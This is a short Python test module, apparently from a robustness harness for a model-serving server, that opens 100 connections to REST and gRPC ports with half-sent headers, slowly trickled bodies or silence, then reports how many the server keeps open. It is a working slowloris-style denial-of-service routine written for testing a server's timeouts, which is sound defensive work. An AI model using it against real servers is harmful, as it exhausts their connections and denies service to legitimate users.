"""Connections that send little or nothing, for as long as they may."""

import time

_N_EACH = 25
_WATCHED_S = 30.0
_HEAD = b"POST /v1/models/lj/predict HTTP/1.1\r\nHost: localhost\r\n"


def slow(victim):
    """Keep 100 connections: half a header, slow bodies, silence on both ports."""
    kinds = (
        (victim.rest_port, b"", b""),
        (victim.rest_port, _HEAD + b"X-", b"a"),
        (victim.rest_port, _HEAD + b"Content-Length: 9000000\r\n\r\n", b"a"),
        (victim.grpc_port, b"", b""),
    )
    connections = []
    for port, first, more in kinds:
        for _ in range(_N_EACH):
            connection = victim.connect(port)
            connection.sendall(first)
            connection.setblocking(False)
            connections.append((connection, more))
    begin = time.monotonic()
    left = connections
    while left and time.monotonic() - begin < _WATCHED_S:
        time.sleep(0.5)
        left = [each for each in left if _is_open(*each)]
    seconds = time.monotonic() - begin
    for connection, _ in connections:
        connection.close()
    if left:
        return f"{len(left)} of {len(connections)} still open after {_WATCHED_S:.0f} s"
    return f"all {len(connections)} closed after {seconds:.0f} s"


def _is_open(connection, more):
    try:
        if more:
            connection.sendall(more)
        while connection.recv(4096):
            pass
    except BlockingIOError:
        return True
    except OSError:
        pass
    return False


ATTACKS = {"100 connections with half a header, a slow body or silence": slow}
